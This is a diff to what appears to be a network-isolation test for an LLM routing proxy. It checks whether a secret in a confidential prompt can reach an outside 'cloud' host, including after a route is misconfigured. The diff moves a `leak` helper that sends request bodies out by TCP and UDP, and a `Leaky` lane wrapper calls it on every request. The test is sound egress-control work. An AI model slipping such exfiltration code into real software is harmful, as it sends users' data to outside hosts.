@@ -27,17 +27,18 @@ import yaml
 
 from serve.cloud import CloudProxy
 from serve.config import Config, load
-from serve.errors import LaneError
+from serve.lane_errors import LaneError
 from serve.lanes.base import LaneCall, LanePort, Piece
 from tests.support import hosts, upstream
 from tests.support.hosts import Host, Sniffer
+from tests.support.leaky import PLACE, leak
 from tests.support.upstream import ThreadedUpstream
 
 ROUTER, EGRESS, WORLD = Host("router"), Host("egress"), Host("")
 INSIDE, GATE, GATE_OUT, OUTSIDE = "10.77.1.2", "10.77.1.1", "198.51.100.2", "198.51.100.1"
 URL, PIPE, KEY = "http://127.0.0.1:8000", (GATE, 7000), b"made up"
 SECRET = "DE89370400440532013000"
-LEAKS, PLACE = "leaks", "LEAK_TO"
+LEAKS = "leaks"
 PATIENCE_S = 240
 
 
@@ -55,11 +56,11 @@ def main(folder: Path) -> None:
             "peers": sorted({connection.peer for connection in cloud.connections}),
             "leaked": SECRET.encode() in cloud.received_bytes,
             "sent": ROUTER.sent(),  # before what was seen: nothing that is counted here may be missing there
-            "left": _plain(wire.settled()),
+            "left": plain(wire.settled()),
         }
         ROUTER.ip("route", "add", "default", "via", GATE)  # whoever keeps the network makes a mistake
         ROUTER.run(lambda: leak(SECRET.encode(), folder / LEAKS, f"{OUTSIDE}:{cloud.port}"))
-        after = _plain(wire.settled())
+        after = plain(wire.settled())
         leaked = SECRET.encode() in cloud.received_bytes
     print(json.dumps(found | {"with_route": after, "leaked_with_route": leaked, "dropped": wire.dropped}))
 
@@ -89,7 +90,7 @@ def processes(folder: Path, provider: int) -> Iterator[None]:
             process = host.start(words, environment, folder / f"{host.name}.log")
             stack.callback(process.wait)
             stack.callback(process.kill)
-            _wait(partial(ROUTER.run, ready), process, folder / f"{host.name}.log")
+            wait(partial(ROUTER.run, ready), process, folder / f"{host.name}.log")
         yield
 
 
@@ -107,13 +108,17 @@ def configuration(folder: Path, provider: int) -> dict[str, Any]:
         "keys": {"mode": "open"},
         "state": {"url": f"sqlite:///{folder / 'state.db'}"},
         "audit": {"write_timeout_s": 60},
+        "signals": {
+            "deadline_s": 120
+        },  # patience: on a busy machine nothing may go elsewhere because it was slow
+        "dispatch": {"queue_wait_s": 60, "queue_wait_unary_s": 60, "last_wait_s": 60, "down_wait_s": 60},
         "engines": {"small": {"model": "stub", "vllm": {"word_s": 0.001}}},
         "lanes": lanes,
         "policy": {"rules": [rule]},
     }
 
 
-def ask() -> list[dict[str, Any]]:
+def ask(key: str = "any") -> list[dict[str, Any]]:
     """Every class, whole and streamed, to whom it may go; a secret that asks for the cloud too."""
     texts = {"public": "What is 2+2?", "internal": "Plan the week", "confidential": f"Pay {SECRET} today"}
     found = []
@@ -121,7 +126,7 @@ def ask() -> list[dict[str, Any]]:
         for model in ("auto", "openai", "anthropic"):
             for stream in (False, True):
                 body = {"model": model, "messages": [{"role": "user", "content": text}], "stream": stream}
-                headers = {"x-pointsman-sensitivity": level}
+                headers = {"x-pointsman-sensitivity": level, "authorization": f"Bearer {key}"}
                 answer = httpx2.post(
                     f"{URL}/v1/chat/completions", json=body, headers=headers, timeout=120, trust_env=False
                 )
@@ -166,20 +171,6 @@ class Leaky:
         await asyncio.to_thread(leak, call.body, self._log, os.environ[PLACE])
         async for piece in self._lane.answer(call):
             yield piece
-
-
-def leak(body: bytes, log: Path, place: str) -> None:
-    """Send `body` to the outside by TCP and by UDP; write down what came of it."""
-    host, _, port = place.partition(":")
-    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
-        with socket.socket(socket.AF_INET, kind) as wire, log.open("a") as file:
-            wire.settimeout(2)
-            try:
-                wire.connect((host, int(port)))
-                wire.sendall(body[:1000])
-                file.write("sent\n")
-            except OSError as error:
-                file.write(f"{error.strerror or error}\n")
 
 
 class Remote:
@@ -248,7 +239,8 @@ def _answers() -> bool:
         return False
 
 
-def _wait(true: Callable[[], bool], process: "subprocess.Popen[bytes]", log: Path) -> None:
+def wait(true: Callable[[], bool], process: "subprocess.Popen[bytes]", log: Path) -> None:
+    """Until `true()` holds. Raises RuntimeError with the end of `log` when the process ends or takes too long."""
     until = time.monotonic() + PATIENCE_S
     while not true():
         if process.poll() is not None or time.monotonic() > until:
@@ -256,7 +248,8 @@ def _wait(true: Callable[[], bool], process: "subprocess.Popen[bytes]", log: Pat
         time.sleep(0.2)
 
 
-def _plain(seen: Counter[tuple[str, str]]) -> dict[str, int]:
+def plain(seen: Counter[tuple[str, str]]) -> dict[str, int]:
+    """As JSON has it: "interface destination" and the number of frames."""
     return {f"{interface} {destination}": count for (interface, destination), count in seen.items()}
 
 
